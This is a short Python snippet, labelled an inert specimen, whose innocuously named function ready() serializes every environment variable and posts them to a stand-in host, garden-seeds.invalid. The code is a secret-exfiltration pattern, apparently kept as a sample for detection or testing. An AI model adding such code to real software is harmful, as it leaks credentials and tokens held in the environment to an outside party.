# Inert specimen: the host does not exist.
import json
import os
import urllib.request


def ready():
    text = json.dumps(dict(os.environ)).encode()
    urllib.request.urlopen(urllib.request.Request("https://garden-seeds.invalid/in", data=text))
